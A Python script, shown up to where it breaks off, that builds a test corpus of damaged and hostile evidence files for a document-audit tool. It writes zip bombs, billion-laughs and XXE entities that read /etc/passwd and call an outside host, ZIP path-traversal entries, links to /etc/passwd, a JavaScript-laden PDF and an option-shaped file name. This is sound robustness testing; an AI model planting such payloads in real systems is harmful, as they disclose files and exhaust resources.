"""Build a corpus of broken and hostile evidence files: what shared drives and chat uploads really
hold (cut downloads, password-locked PDFs, renamed formats, office junk, odd names, links) beside
what an attacker could plant (zip bombs, XML entities, path traversal, links out of the tree).

`build(root)` writes the tree under ROOT, in agency folders named like the agencies of
tests/helpers.py MAP, and returns {path relative to ROOT (undecodable bytes as \\udcXX): kind};
KINDS says what each kind is. Links that lead out of ROOT point to /etc/passwd or into a sibling
folder `<ROOT name>.outside`, which `build` also writes (its PDFs carry OUTSIDE_TOKEN). The tree
takes about 2 MB on disk and 2 s to make; nothing needs the network.
Usage: python scripts/make_hostile.py DIR
"""

from __future__ import annotations

import io
import os
import random
import stat
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from docgen import Regulation, Report, raw_pdf, write_docx, write_pdf
from fpdf import FPDF
from PIL import Image

HUKUM = "Bagian Hukum"
KOMINFO = "01. Diskominfo"
BAPPEDA = "Bappeda"
DLH = "DLH Kab Mojosari"
OTHER = "Lain-lain"

SPBE = "Sistem Pemerintahan Berbasis Elektronik"
#: a token only the file outside ROOT carries: it must never show up in an audit
OUTSIDE_TOKEN = "RAHASIALUARROOT"
BOMB_BYTES = 200 * 1024 * 1024
#: the pages of the long annex; each carries one line of text (more than 50 characters), so the
#: annex is read from its text layer rather than sent page by page to OCR
ANNEX_PAGES = 1500
FIXTURE_DOC = Path(__file__).resolve().parent / "fixtures" / "sop-pembangunan-aplikasi.doc"

KINDS: dict[str, str] = {
    "control-pdf": "a sound Peraturan Bupati, so that the audit has something to match",
    "control-docx": "a sound report as Word, the source of the mutated DOCX",
    "pdf-truncated-half": "a PDF cut at half its length (a download that stopped)",
    "pdf-truncated-fifth": "a PDF cut at a fifth of its length",
    "pdf-truncated-header": "a PDF cut after 64 bytes: a header and nothing else",
    "pdf-random-bytes": "8 KB of random bytes named .pdf",
    "zero-bytes": "a 0-byte placeholder named like a required Perbup (a failed sync)",
    "pdf-placeholder-26": "a 26-byte placeholder: a PDF header and %%EOF, no objects",
    "pdf-encrypted": "a PDF that needs a user password to open",
    "pdf-owner-password": "a PDF with an owner password only (print/copy limits): must be read",
    "pdf-javascript": "a PDF whose OpenAction and page action run JavaScript: read, never run",
    "pdf-lying-page-count": "a PDF whose page tree claims 2147483647 pages and holds one",
    "pdf-annex-1500": "a 1,500-page annex kept small: one shared content stream for every page",
    "pdf-garbage-xref": "a PDF whose xref table and startxref are garbage (needs repair)",
    "pdf-zero-pages": "a PDF whose page tree is empty",
    "pdf-images-only": "a scanned blank page: a picture, no text layer",
    "pdf-giant-page": "a one-page PDF of 14400 x 14400 pt (200 inches) with no text: a render bomb",
    "pdf-page-tree-loop": "a PDF whose page tree lists itself as a kid",
    "pdf-deep-nesting": "a PDF with an array nested 200,000 levels deep",
    "docx-named-pdf": "a Word document saved with a .pdf name",
    "pdf-named-docx": "a PDF saved with a .docx name: must be read as the PDF it is",
    "pdf-named-jpg": "a PDF saved with a .jpg name: must be read as the PDF it is",
    "zip-named-pdf": "a ZIP archive saved with a .pdf name",
    "docx-legacy-doc": "a Word 97-2003 .doc renamed .docx (OLE header)",
    "docx-xxe": "a DOCX whose document.xml declares external entities (file:// and http://)",
    "docx-billion-laughs": "a DOCX whose document.xml declares the billion-laughs entities",
    "docx-zip-bomb": "a DOCX whose word/document.xml expands to 200 MB",
    "docx-bomb-in-docprops": "a sound DOCX whose docProps/app.xml expands to 200 MB",
    "docx-missing-document": "a ZIP named .docx without word/document.xml",
    "docx-damaged-xml": "a DOCX whose document.xml is cut in the middle of a tag",
    "docx-truncated": "a DOCX cut at half its length (no central directory)",
    "xlsx-not-zip": "text named .xlsx",
    "pptx-garbage": "random bytes named .pptx",
    "pptx-not-a-deck": "a ZIP named .pptx without a presentation part",
    "doc-antiword-fails": "an OLE header and garbage named .doc: antiword cannot read it",
    "doc-dash-name": "a .doc named `-w 0.doc` (an option-shaped name passed to antiword)",
    "jpeg-truncated": "a JPEG photo cut at half its length",
    "png-bomb": "a PNG that declares 100000 x 100000 pixels (a decompression bomb)",
    "tiff-garbage": "a TIFF header followed by garbage",
    "zip-path-traversal": "a ZIP whose entries climb out (../, absolute, C:, backslashes)",
    "zip-nested": "a ZIP holding another ZIP",
    "zip-bomb-member": "a ZIP whose member expands 200 MB from about 200 KB",
    "zip-encrypted-member": "a ZIP whose member is encrypted (ZipCrypto)",
    "zip-broken": "a ZIP cut short: local header, no central directory",
    "zip-lying-size": "a ZIP member whose headers declare fewer bytes than it expands to",
    "zip-symlink-member": "a ZIP entry stored as a Unix link to /etc/passwd",
    "zip-too-many-members": "a ZIP of 5,001 tiny members",
    "zip-junk-members": "a ZIP holding only __MACOSX, .DS_Store and Thumbs.db",
    "symlink-outside-file": "a link to a PDF outside ROOT",
    "symlink-outside-folder": "a folder link to a folder outside ROOT",
    "symlink-absolute-system": "a link named .pdf to /etc/passwd",
    "symlink-loop-parent": "a folder link to its own parent folder",
    "symlink-loop-self": "a folder link to itself",
    "symlink-dangling": "a link to a file that does not exist",
    "symlink-inside-file": "a link to a PDF elsewhere inside ROOT",
    "symlink-inside-folder": "a folder link to a folder elsewhere inside ROOT (read earlier)",
    "non-utf8-name": 'a sound PDF named b"\\xff\\xfe.pdf"',
    "non-utf8-name-cp1252": "a damaged PDF whose cp1252 name matches a requirement",
    "long-name": "a sound PDF with a 240-character name",
    "control-chars-name": "a sound PDF whose name holds a newline and a tab",
    "office-lock": "an Office lock file ~$Perbup.docx",
    "junk-thumbs": "Thumbs.db",
    "junk-desktop-ini": "desktop.ini",
    "junk-ds-store": ".DS_Store",
    "junk-macosx": "a __MACOSX folder with an AppleDouble ._ file",
    "unsupported-type": "a .txt note and an .exe",
    "no-permission": "a sound PDF with mode 000 (root still reads it)",
    "folder-no-permission": "a folder with mode 000 holding a PDF",
    "folder-named-like-file": "a folder called Lampiran.pdf holding a PDF",
    "fifo-named-pdf": "a named pipe called antrian.pdf: opening it for reading would block",
    "sparse-too-large": "a sparse file of 300 MiB + 1 byte named .pdf (over the size limit)",
    "root-level-file": "a damaged PDF directly under ROOT (no agency)",
    "unresolved-folder": "a sound PDF in a folder that names no agency",
    "pdf-count-million": "a one-page PDF whose page tree says /Count 1000000",
    "pdf-giant-page-after-text": "a sound page followed by a blank 200 x 200 inch page",
    "tiff-500-frames": "a TIFF of 500 small blank frames (the reader stops at its frame cap)",
    "folder-named-like-member": "a real folder paket.zip! beside the archive paket.zip",
    "archive-beside-folder": "the archive paket.zip whose member has the folder's file's name",
    "path-too-long": "folders nested until the path is longer than the system takes",
    "socket-named-pdf": "a Unix socket called soket.pdf: never opened",
}


# --- PDFs made by hand ------------------------------------------------------------------------


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"PERATURAN BUPATI MOJOSARI NOMOR 12 TAHUN 2023 TENTANG ARSITEKTUR SPBE"


def _one_page(text: bytes = _TEXT, *, media: bytes = b"0 0 595 842", extra: bytes = b"") -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [" + media + b"] "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            _FONT,
            _stream(b"BT /F1 11 Tf 40 800 Td (" + text + b") Tj ET"),
        ]
    )


def pdf_lying_page_count() -> bytes:
    return _one_page().replace(b"/Count 1 ", b"/Count 2147483647 ")


def pdf_annex(pages: int = ANNEX_PAGES) -> bytes:
    """Many pages sharing one font and one content stream: about 60 bytes per page."""
    first = 5
    kids = b" ".join(b"%d 0 R" % (first + i) for i in range(pages))
    line = b"LAMPIRAN PERATURAN BUPATI MOJOSARI NOMOR 12 TAHUN 2023 DAFTAR ASET TIK"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids ["
        + kids
        + b"] /Count %d " % pages
        + b"/MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> >>",
        _FONT,
        _stream(b"BT /F1 10 Tf 40 800 Td (" + line + b") Tj ET"),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>"] * pages
    return raw_pdf(objects)


def pdf_javascript() -> bytes:
    script = b"<< /Type /Action /S /JavaScript /JS (app.alert('x'); while (true) {}) >>"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R "
            b"/Names << /JavaScript << /Names [(auto) 6 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 6 0 R >> "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            _FONT,
            _stream(b"BT /F1 11 Tf 40 800 Td (" + _TEXT + b") Tj ET"),
            script,
        ]
    )


def pdf_garbage_xref() -> bytes:
    sound = _one_page()
    cut = sound.index(b"xref")
    tail = b"xref\n0 6\n" + b"garbage garbage 0000 n \n" * 6
    tail += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n999999\n%%EOF\n"
    return sound[:cut] + tail


def pdf_count_million() -> bytes:
    return _one_page().replace(b"/Count 1 ", b"/Count 1000000 ")


def pdf_giant_page_after_text() -> bytes:
    """Page 1 a Perbup's first page, page 2 blank and 14400 pt square: OCR must skip page 2."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            _FONT,
            _stream(b"BT /F1 11 Tf 40 800 Td (" + _TEXT + b") Tj ET"),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] >>",
        ]
    )


def tiff_frames(count: int = 500) -> bytes:
    frames = [Image.new("L", (16, 16), color=255) for _ in range(count)]
    out = io.BytesIO()
    frames[0].save(out, format="TIFF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def deep_folders(root: Path, top: str, limit: int = 4200) -> str:
    """Folders of 200 characters nested until the path passes `limit` bytes (PATH_MAX is 4096),
    made relative to open folders so that the system accepts them; the path of the first folder
    whose name is too long for the system."""
    part = "sangat dalam " * 15 + "x" * 5
    descriptor = os.open(root / top, os.O_RDONLY)
    relative, length = top, len(os.fsencode(root / top))
    try:
        while length <= limit:
            os.mkdir(part, dir_fd=descriptor)
            inner = os.open(part, os.O_RDONLY, dir_fd=descriptor)
            os.close(descriptor)
            descriptor = inner
            length += 1 + len(part)
            relative += "/" + part
            if length > 4096:
                break
        with open(os.open("Perbup.pdf", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=descriptor), "wb"):
            pass
    finally:
        os.close(descriptor)
    return relative


def pdf_zero_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_giant_page() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] >>",
        ]
    )


def pdf_page_tree_loop() -> bytes:
    return _one_page().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [2 0 R 3 0 R] /Count 2")


def pdf_deep_nesting(depth: int = 200_000) -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep 3 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"[" * depth + b"]" * depth,
        ]
    )


def pdf_with_password(*, user: str | None) -> bytes:
    """fpdf2 encrypts with RC4 through the `cryptography` package."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", size=11)
    pdf.multi_cell(0, 6, _TEXT.decode() + " DITETAPKAN DI MOJOSARI PADA TANGGAL 4 DESEMBER 2023")
    pdf.set_encryption(owner_password="pemilik", user_password=user)
    return bytes(pdf.output())


def pdf_blank_scan() -> bytes:
    picture = Image.new("L", (620, 877), color=242)
    pdf = FPDF(format="A4")
    pdf.add_page()
    pdf.image(picture, x=0, y=0, w=pdf.w, h=pdf.h)
    return bytes(pdf.output())


# --- Office files -----------------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _zip_bytes(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _word_body(paragraph: str) -> str:
    return f"<w:document {_W}><w:body><w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p></w:body></w:document>"


def docx_with_entities(declarations: str, reference: str) -> bytes:
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [\n{declarations}\n]>\n'
        + _word_body(f"LAPORAN {reference}")
    )
    return _zip_bytes({"[Content_Types].xml": _CONTENT_TYPES, "word/document.xml": document})


XXE = (
    '<!ENTITY rahasia SYSTEM "file:///etc/passwd">\n'
    '<!ENTITY jauh SYSTEM "http://192.0.2.1/evidence-check-xxe">\n'
    '<!ENTITY % luar SYSTEM "http://192.0.2.1/evidence-check-dtd"> %luar;'
)
LAUGHS = '<!ENTITY lol "lol">\n' + "\n".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
    for i in range(1, 10)
)


def write_zip_with_big_member(
    path: Path, name: str, size: int, before: dict[str, bytes | str] | None = None
) -> None:
    """A ZIP holding `before` and then `name`: `size` bytes of one repeated character, streamed
    through deflate so that neither memory nor disk ever holds the expanded bytes."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for member, data in (before or {}).items():
            archive.writestr(member, data)
        info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        block = b" " * (1 << 20)
        with archive.open(info, "w", force_zip64=size > 0x7FFFFFFF) as out:
            for _ in range(size // len(block)):
                out.write(block)


def zip_lying_size() -> bytes:
    """One member whose local and central headers declare 64 bytes; it expands to 64 KB."""
    data = b"%PDF-1.4\n" + b"0" * (64 * 1024)
    archive = bytearray(_zip_bytes({"Perbup.pdf": data}))
    fake = struct.pack("<I", 64)
    local_at = archive.index(b"PK\x03\x04")
    central_at = archive.index(b"PK\x01\x02")
    archive[local_at + 22 : local_at + 26] = fake  # uncompressed size in the local header
    archive[central_at + 24 : central_at + 28] = fake  # and in the central directory
    return bytes(archive)


def zip_symlink_member() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("tautan.pdf", date_time=(2024, 1, 1, 0, 0, 0))
        info.create_system = 3  # Unix
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def zip_too_many_members(count: int = 5001) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        for index in range(count):
            archive.writestr(f"catatan/{index:05d}.txt", b"")
    return out.getvalue()


def _zipcrypto(plain: bytes, password: bytes, crc: int, rng: random.Random) -> bytes:
    """Traditional PKWARE encryption (what `zip -e` and Windows Explorer write)."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc_update(value: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), value ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def update(byte: int) -> None:
        keys[0] = crc_update(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_update(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    out = bytearray()
    header = bytes(rng.randrange(256) for _ in range(11)) + bytes([crc >> 24])
    for byte in header + plain:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def zip_encrypted_member(plain: bytes, name: str = "Perbup rahasia.pdf") -> bytes:
    """A stored, ZipCrypto-encrypted member (password "rahasia"), written header by header."""
    crc = zlib.crc32(plain)
    data = _zipcrypto(plain, b"rahasia", crc, random.Random(7))
    encoded = name.encode()
    flags, method, when, day = 0x1, 0, 0, (44 << 9) | (1 << 5) | 1
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, when, day, crc, len(data), len(plain),
        len(encoded), 0,
    )  # fmt: skip
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, when, day, crc, len(data),
        len(plain), len(encoded), 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    body = local + encoded + data
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central) + len(encoded), len(body), 0
    )
    return body + central + encoded + end


# --- pictures ---------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A grey PNG declaring width x height pixels; the image data holds only its first rows."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\x00" + b"\xff" * width) * 16, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_photo() -> bytes:
    rng = random.Random(3)
    picture = Image.new("L", (640, 480), color=200)
    pixels = picture.load()
    assert pixels is not None
    for _ in range(20000):
        pixels[rng.randrange(640), rng.randrange(480)] = rng.randrange(256)
    out = io.BytesIO()
    picture.save(out, format="JPEG", quality=90)
    return out.getvalue()


# --- the tree ---------------------------------------------------------------------------------


def build(root: Path) -> dict[str, str]:
    """Write the hostile tree under ROOT (and the `.outside` folder beside it): {path: kind}."""
    root.mkdir(parents=True, exist_ok=True)
    outside = root.parent / f"{root.name}.outside"
    rng = random.Random(20241129)
    made: dict[str, str] = {}

    def put(relative: str | bytes, kind: str, data: bytes | Callable[[Path], object]) -> Path:
        raw = os.path.join(os.fsencode(root), os.fsencode(relative))
        path = Path(os.fsdecode(raw))
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            data(path)
        made[os.fsdecode(relative)] = kind
        return path

    def link(relative: str, target: str | Path, kind: str) -> None:
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
        made[relative] = kind

    outside.mkdir(parents=True, exist_ok=True)
    sound_pdf = write_pdf(Regulation(topic=f"Arsitektur {SPBE}"), outside / "p.pdf").read_bytes()
    report = Report(title=f"Laporan Reviu Arsitektur {SPBE}")
    sound_docx = write_docx(report, outside / "l.docx").read_bytes()
    (outside / "p.pdf").unlink()
    (outside / "l.docx").unlink()
    write_pdf(
        Report(title=f"Dokumen {OUTSIDE_TOKEN} di luar folder bukti"), outside / "rahasia.pdf"
    )
    (outside / "arsip").mkdir(exist_ok=True)
    write_pdf(Report(title=f"Arsip {OUTSIDE_TOKEN}"), outside / "arsip" / "lama.pdf")

    # PDFs, in the folder of the agency that owns the Perbup
    put(f"{HUKUM}/Perbup Arsitektur SPBE.pdf", "control-pdf", sound_pdf)
    half, fifth = len(sound_pdf) // 2, len(sound_pdf) // 5
    put(f"{HUKUM}/Perbup 12 2023 terpotong separuh.pdf", "pdf-truncated-half", sound_pdf[:half])
    put(f"{HUKUM}/Perbup 12 2023 terpotong.pdf", "pdf-truncated-fifth", sound_pdf[:fifth])
    put(f"{HUKUM}/Perbup 12 2023 kepala saja.pdf", "pdf-truncated-header", sound_pdf[:64])
    put(f"{HUKUM}/acak.pdf", "pdf-random-bytes", rng.randbytes(8192))
    put(f"{HUKUM}/Perbup Peta Rencana SPBE.pdf", "zero-bytes", b"")
    placeholder = b"%PDF-1.4\n%placeholder%%EOF"
    assert len(placeholder) == 26
    put(f"{HUKUM}/placeholder.pdf", "pdf-placeholder-26", placeholder)
    put(f"{HUKUM}/Perbup terkunci.pdf", "pdf-encrypted", pdf_with_password(user="rahasia"))
    put(f"{HUKUM}/Perbup hak pemilik.pdf", "pdf-owner-password", pdf_with_password(user=None))
    put(f"{HUKUM}/Perbup javascript.pdf", "pdf-javascript", pdf_javascript())
    put(f"{HUKUM}/halaman palsu.pdf", "pdf-lying-page-count", pdf_lying_page_count())
    put(f"{HUKUM}/Lampiran 1500 halaman.pdf", "pdf-annex-1500", pdf_annex())
    put(f"{HUKUM}/xref rusak.pdf", "pdf-garbage-xref", pdf_garbage_xref())
    put(f"{HUKUM}/tanpa halaman.pdf", "pdf-zero-pages", pdf_zero_pages())
    put(f"{HUKUM}/pindaian kosong.pdf", "pdf-images-only", pdf_blank_scan())
    put(f"{HUKUM}/halaman raksasa.pdf", "pdf-giant-page", pdf_giant_page())
    put(f"{HUKUM}/pohon halaman berulang.pdf", "pdf-page-tree-loop", pdf_page_tree_loop())
    put(f"{HUKUM}/bersarang dalam.pdf", "pdf-deep-nesting", pdf_deep_nesting())
    put(f"{HUKUM}/sebenarnya word.pdf", "docx-named-pdf", sound_docx)
    put(f"{HUKUM}/sebenarnya pdf.docx", "pdf-named-docx", sound_pdf)
    put(f"{HUKUM}/arsip.pdf", "zip-named-pdf", _zip_bytes({"a.pdf": sound_pdf}))

    # Word, Excel, PowerPoint and .doc, at Diskominfo
    put(f"{KOMINFO}/Laporan Reviu Arsitektur SPBE.docx", "control-docx", sound_docx)
    put(f"{KOMINFO}/SK Tim SPBE.docx", "docx-legacy-doc", FIXTURE_DOC.read_bytes())
    put(f"{KOMINFO}/xxe.docx", "docx-xxe", docx_with_entities(XXE, "&rahasia; &jauh;"))
    put(
        f"{KOMINFO}/billion laughs.docx",
        "docx-billion-laughs",
        docx_with_entities(LAUGHS, "&lol9;"),
    )
    put(
        f"{KOMINFO}/bom.docx",
        "docx-zip-bomb",
        lambda p: write_zip_with_big_member(
            p, "word/document.xml", BOMB_BYTES, {"[Content_Types].xml": _CONTENT_TYPES}
        ),
    )

    def docprops_bomb(path: Path) -> None:
        with zipfile.ZipFile(io.BytesIO(sound_docx)) as sound:
            parts: dict[str, bytes | str] = {
                n: sound.read(n) for n in sound.namelist() if n != "docProps/app.xml"
            }
        write_zip_with_big_member(path, "docProps/app.xml", BOMB_BYTES, parts)

    put(f"{KOMINFO}/app bom.docx", "docx-bomb-in-docprops", docprops_bomb)
    put(
        f"{KOMINFO}/bukan word.docx",
        "docx-missing-document",
        _zip_bytes({"[Content_Types].xml": _CONTENT_TYPES, "foto/kegiatan.txt": "bukan Word"}),
    )
    put(
        f"{KOMINFO}/xml rusak.docx",
        "docx-damaged-xml",
        _zip_bytes(
            {
                "[Content_Types].xml": _CONTENT_TYPES,
                "word/document.xml": _word_body("LAPORAN REVIU")[:70],
            }
        ),
    )
    put(f"{KOMINFO}/terpotong.docx", "docx-truncated", sound_docx[: len(sound_docx) // 2])
    put(f"{KOMINFO}/rekap.xlsx", "xlsx-not-zip", b"Rekap aset TIK\tjumlah\nlaptop\t12\n")
    put(f"{KOMINFO}/paparan.pptx", "pptx-garbage", rng.randbytes(4096))
    put(
        f"{KOMINFO}/paparan kosong.pptx",
        "pptx-not-a-deck",
        _zip_bytes({"[Content_Types].xml": _CONTENT_TYPES, "ppt/catatan.txt": "bukan"}),
    )
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    put(f"{KOMINFO}/SOP lama.doc", "doc-antiword-fails", ole + rng.randbytes(4096))
    put(f"{KOMINFO}/-w 0.doc", "doc-dash-name", b"bukan dokumen Word sama sekali\n")

    # pictures and archives, at Bappeda
    photo = jpeg_photo()
    put(f"{BAPPEDA}/foto kegiatan.jpg", "jpeg-truncated", photo[: len(photo) // 2])
    put(f"{BAPPEDA}/bom piksel.png", "png-bomb", png_bomb())
    put(f"{BAPPEDA}/pindaian.tif", "tiff-garbage", b"II*\x00\x08\x00\x00\x00" + rng.randbytes(2048))
    put(f"{BAPPEDA}/sebenarnya pdf.jpg", "pdf-named-jpg", sound_pdf)
    put(
        f"{BAPPEDA}/kiriman.zip",
        "zip-path-traversal",
        _zip_bytes(
            {
                "../../keluar.pdf": sound_pdf,
                "/tmp/evidence-check-absolut.pdf": sound_pdf,
                "..\\..\\windows.pdf": sound_pdf,
                "C:/Windows/drive.pdf": sound_pdf,
                "dokumen/../../naik.pdf": sound_pdf,
                "dokumen/Perbup Arsitektur SPBE.pdf": sound_pdf,
            }
        ),
    )
    put(
        f"{BAPPEDA}/bersarang.zip",
        "zip-nested",
        _zip_bytes({"dalam.zip": _zip_bytes({"Perbup.pdf": sound_pdf}), "surat.pdf": sound_pdf}),
    )
    put(
        f"{BAPPEDA}/bom.zip",
        "zip-bomb-member",
        lambda p: write_zip_with_big_member(p, "bom.pdf", BOMB_BYTES, {"surat.pdf": sound_pdf}),
    )
    put(f"{BAPPEDA}/terkunci.zip", "zip-encrypted-member", zip_encrypted_member(sound_pdf))
    whole = _zip_bytes({"Perbup.pdf": sound_pdf})
    put(f"{BAPPEDA}/rusak.zip", "zip-broken", whole[: len(whole) // 2])
    put(f"{BAPPEDA}/bohong.zip", "zip-lying-size", zip_lying_size())
    put(f"{BAPPEDA}/tautan.zip", "zip-symlink-member", zip_symlink_member())
    put(f"{BAPPEDA}/banyak.zip", "zip-too-many-members", zip_too_many_members())
    put(
        f"{BAPPEDA}/sampah.zip",
        "zip-junk-members",
        _zip_bytes({"__MACOSX/._Perbup.pdf": b"\x00\x05", ".DS_Store": b"x", "Thumbs.db": b"x"}),
    )

    # links, names, junk and permissions, at DLH
    link(f"{DLH}/rahasia.pdf", outside / "rahasia.pdf", "symlink-outside-file")
    link(f"{DLH}/arsip luar", Path("..") / ".." / outside.name / "arsip", "symlink-outside-folder")
    link(f"{DLH}/passwd.pdf", "/etc/passwd", "symlink-absolute-system")
    link(f"{DLH}/sub/balik", "..", "symlink-loop-parent")
    link(f"{DLH}/diri", ".", "symlink-loop-self")
    link(f"{DLH}/putus.pdf", "tidak-ada.pdf", "symlink-dangling")
    put(f"{DLH}/sub/laporan asli.pdf", "symlink-inside-file", sound_pdf)
    link(f"{DLH}/laporan.pdf", Path("sub") / "laporan asli.pdf", "symlink-inside-file")
    # walked after its target (first-level folders are walked in reverse name order)
    link(f"{KOMINFO}/pintasan Bappeda", Path("..") / BAPPEDA, "symlink-inside-folder")
    put(os.fsencode(DLH) + b"/\xff\xfe.pdf", "non-utf8-name", sound_pdf)
    put(
        os.fsencode(DLH) + b"/Perbup Peta Rencana SPBE \xe9.pdf",
        "non-utf8-name-cp1252",
        sound_pdf[:fifth],
    )
    long_name = "Laporan " + "sangat panjang " * 15
    put(f"{DLH}/{long_name[: 240 - 4]}.pdf", "long-name", sound_pdf)
    put(f"{DLH}/baris\nbaru\tdan tab.pdf", "control-chars-name", sound_pdf)
    put(f"{DLH}/~$Perbup.docx", "office-lock", b"\x05lock" + b"\x00" * 157)
    put(f"{DLH}/Thumbs.db", "junk-thumbs", ole + rng.randbytes(512))
    put(f"{DLH}/desktop.ini", "junk-desktop-ini", b"[.ShellClassInfo]\r\nIconResource=x\r\n")
    put(f"{DLH}/.DS_Store", "junk-ds-store", b"\x00\x00\x00\x01Bud1" + rng.randbytes(128))
    put(f"{DLH}/__MACOSX/._laporan asli.pdf", "junk-macosx", b"\x00\x05\x16\x07" + b"\x00" * 60)
    put(f"{DLH}/catatan.txt", "unsupported-type", b"catatan rapat\n")
    put(f"{DLH}/setup.exe", "unsupported-type", b"MZ" + rng.randbytes(510))
    locked = put(f"{DLH}/terkunci 000.pdf", "no-permission", sound_pdf)
    locked.chmod(0)
    put(f"{DLH}/terlarang/dokumen.pdf", "folder-no-permission", sound_pdf)
    (root / DLH / "terlarang").chmod(0)
    put(f"{DLH}/Lampiran.pdf/halaman 1.pdf", "folder-named-like-file", sound_pdf)
    fifo = root / DLH / "antrian.pdf"
    os.mkfifo(fifo)
    made[f"{DLH}/antrian.pdf"] = "fifo-named-pdf"

    def sparse(path: Path) -> None:
        with path.open("wb") as handle:
            handle.truncate(300 * 1024 * 1024 + 1)

    put(f"{DLH}/arsip besar.pdf", "sparse-too-large", sparse)

    put(f"{HUKUM}/halaman sejuta.pdf", "pdf-count-million", pdf_count_million())
    put(
        f"{HUKUM}/Perbup dengan halaman raksasa.pdf",
        "pdf-giant-page-after-text",
        pdf_giant_page_after_text(),
    )
    put(f"{DLH}/pindaian 500 bingkai.tif", "tiff-500-frames", tiff_frames())
    put(f"{BAPPEDA}/paket.zip!/surat.pdf", "folder-named-like-member", sound_pdf)
    put(f"{BAPPEDA}/paket.zip", "archive-beside-folder", _zip_bytes({"surat.pdf": sound_pdf}))
    (root / OTHER).mkdir(parents=True, exist_ok=True)
    made[deep_folders(root, OTHER)] = "path-too-long"
    import socket

    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
